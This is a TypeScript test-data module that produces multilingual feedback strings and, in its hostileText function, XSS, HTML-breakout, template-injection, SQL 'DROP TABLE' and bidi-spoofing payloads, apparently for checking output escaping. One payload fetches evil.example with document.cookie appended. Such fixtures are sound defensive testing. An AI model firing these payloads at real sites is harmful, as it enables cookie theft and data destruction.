import { integer, pick, type Random } from './random';

/** What people and models write: many scripts, combining marks, right-to-left, emoji. */
export function feedbackText(random: Random): string {
  return pick(random, [
    `Rating ${integer(random, 1, 5)}/5: „Fahrer war sehr freundlich, Päckchen leicht eingedrückt.“`,
    'Sentiment: positive 😀 — “Livré à l’heure, merci !”',
    'تم التسليم في الموعد، شكراً جزيلاً',
    '荷物は時間通りに届きました。ありがとうございます。',
    'Доставка прошла быстро, но коробка была мокрой.',
    'Paczka doszła z opóźnieniem — proszę o kontakt z działem obsługi.\nZażółć gęślą jaźń.',
    'नमस्ते, डिलीवरी समय पर हुई। 👍🏽',
  ]);
}

/** Strings that must reach a page as text: markup, a fake link, control and bidi characters. */
export function hostileText(random: Random): string {
  return pick(random, [
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror="fetch(\'//evil.example/\' + document.cookie)">',
    '"><svg/onload=alert(1)>',
    'javascript:alert(1)//\u202Egnp.exe',
    '</pre></td></tr></table><h1>Owned</h1>',
    '{"name":"<b onmouseover=alert(1)>Ole</b>","note":"{{7*7}} #{7*7} \'; DROP TABLE runs; --"}',
    'tab\there, bell\u0007, escape \u001b[31mred\u001b[0m and a <a href="https://evil.example">link</a>',
  ]);
}
